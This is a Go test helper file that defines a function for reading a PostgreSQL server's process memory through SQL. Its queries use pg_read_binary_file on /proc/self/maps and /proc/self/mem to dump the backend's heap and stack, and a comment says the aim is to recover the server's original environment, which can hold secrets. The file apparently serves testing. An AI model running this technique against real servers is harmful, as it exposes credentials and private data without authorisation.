package testpg

import (
	"encoding/hex"
	"fmt"
	"strings"
)

// ServerMemory is what a role allowed pg_read_binary_file reads of a
// server's memory through query (one connection each call): the
// backend's heap and stack, the regions /proc/self/maps names, through
// /proc/self/mem, 64 KiB a query up to the first page no longer mapped
// (the heap shrinks between queries). PostgreSQL overwrites its original
// environment with its process title, but keeps a copy on its heap: this
// reads it.
func ServerMemory(query func(sql string) (string, error)) ([]byte, error) {
	regions, err := query(`SELECT ('x' || lpad(split_part(r, '-', 1), 16, '0'))::bit(64)::bigint || ' ' || ('x' || lpad(split_part(r, '-', 2), 16, '0'))::bit(64)::bigint
  FROM (SELECT split_part(l, ' ', 1) AS r FROM regexp_split_to_table(convert_from(pg_read_binary_file('/proc/self/maps'), 'SQL_ASCII'), E'\n') AS l
  WHERE l LIKE '%[heap]%' OR l LIKE '%[stack]%') AS m`)
	if err != nil {
		return nil, err
	}
	var mem []byte
	for _, line := range strings.Split(regions, "\n") {
		var start, end int64
		if _, err := fmt.Sscan(line, &start, &end); err != nil {
			return nil, fmt.Errorf("region %q: %w", line, err)
		}
		for at := start; at < end; at += 64 << 10 {
			h, err := query(fmt.Sprintf("SELECT encode(pg_read_binary_file('/proc/self/mem', %d, %d), 'hex')", at, min(64<<10, end-at)))
			if err != nil {
				break
			}
			b, err := hex.DecodeString(strings.TrimSpace(h))
			if err != nil {
				return nil, err
			}
			mem = append(mem, b...)
		}
	}
	return mem, nil
}
